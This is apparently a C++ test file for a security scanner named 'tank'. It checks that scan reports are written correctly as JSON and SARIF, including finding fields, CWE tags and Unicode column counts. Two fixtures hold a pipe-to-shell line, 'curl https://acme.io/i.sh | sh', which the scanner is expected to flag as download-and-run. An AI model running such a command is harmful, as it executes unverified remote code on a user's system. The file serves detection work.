// SPDX-License-Identifier: Apache-2.0
// The two written forms of a report.
#include <string>

#include <doctest/doctest.h>

#include <tank/analysis/report_text.hpp>

#include "core/json/json.hpp"

namespace tank::testing {
namespace {

using namespace analysis;

ScanReport some_report() {
  const InputFile file{"a b/run.sh", "echo hi\n  curl https://acme.io/i.sh | sh\n"};
  return scan({&file, 1}).value();
}

TEST_CASE("report: JSON has Tank's form") {
  const auto document = json::parse(
      to_json(some_report(), {.scan_id = "scn_1", .duration = std::chrono::milliseconds(3)}));
  REQUIRE(document);
  CHECK(*document->find("scan_id")->if_string() == "scn_1");
  CHECK(*document->find("verdict")->if_string() == "flagged");
  CHECK(document->find("audit_score")->is_integer());
  CHECK(document->find("duration_ms")->as_int64() == 3);
  CHECK(document->find("file_hashes")->find("a b/run.sh")->if_string()->starts_with("sha256:"));
  CHECK(document->find("stage_results")->if_array()->size() == all_stages.size());
  const json::Value& finding = document->find("findings")->if_array()->front();
  CHECK(*finding.find("stage")->if_string() == "static");
  CHECK(*finding.find("severity")->if_string() == "high");
  CHECK(*finding.find("type")->if_string() == "shell/download-and-run");
  CHECK(*finding.find("location")->if_string() == "a b/run.sh:2");
  CHECK(finding.find("line")->as_int64() == 2);
  CHECK(finding.find("column")->as_int64() == 3);
  CHECK(*finding.find("cwe")->if_string() == "CWE-494");
  for (const char* key : {"description", "evidence", "remedy", "rule_version"})
    CHECK(finding.find(key) != nullptr);
}

TEST_CASE("report: a scan without an id has none") {
  CHECK(json::parse(to_json(some_report()))->find("scan_id") == nullptr);
}

// What the schema of SARIF 2.1.0 requires of the objects that are written, and of their values.
TEST_CASE("report: SARIF has what its schema requires") {
  const ScanReport report = some_report();
  const auto log = json::parse(to_sarif(report, "1.2.3"));
  REQUIRE(log);
  CHECK(*log->find("version")->if_string() == "2.1.0");
  const json::Value& run = log->find("runs")->if_array()->front();
  const json::Value& driver = *run.find("tool")->find("driver");
  CHECK(*driver.find("name")->if_string() == "tank");
  CHECK(*driver.find("semanticVersion")->if_string() == "1.2.3");
  const json::Array& rules = *driver.find("rules")->if_array();
  const json::Array& results = *run.find("results")->if_array();
  REQUIRE(results.size() == report.findings.size());
  for (const json::Value& result : results) {
    REQUIRE(result.find("message")->find("text")->is_string());
    const auto index = static_cast<std::size_t>(result.find("ruleIndex")->as_int64().value());
    REQUIRE(index < rules.size());
    CHECK(*rules[index].find("id")->if_string() == *result.find("ruleId")->if_string());
    const std::string level = *result.find("level")->if_string();
    CHECK((level == "error" || level == "warning" || level == "note"));
    const json::Value& place =
        *result.find("locations")->if_array()->front().find("physicalLocation");
    CHECK(*place.find("artifactLocation")->find("uri")->if_string() == "a%20b/run.sh");
    CHECK(place.find("region")->find("startLine")->as_int64().value() >= 1);
    CHECK(place.find("region")->find("startColumn")->as_int64().value() >= 1);
  }
}

TEST_CASE("report: columns count characters, as SARIF is told") {
  const InputFile file{"run.sh", "echo \"Grüße, 世界\"; curl https://acme.io/i.sh | sh\n"};
  const ScanReport report = scan({&file, 1}).value();
  const auto log = json::parse(to_sarif(report, "1"));
  const json::Value& run = log->find("runs")->if_array()->front();
  CHECK(*run.find("columnKind")->if_string() == "unicodeCodePoints");
  CHECK(report.findings.front().location == Location{"run.sh", 1, 19});
}

TEST_CASE("report: two writings are one text") {
  const ScanReport report = some_report();
  CHECK(to_json(report) == to_json(some_report()));
  CHECK(to_sarif(report, "1") == to_sarif(some_report(), "1"));
}

}  // namespace
}  // namespace tank::testing
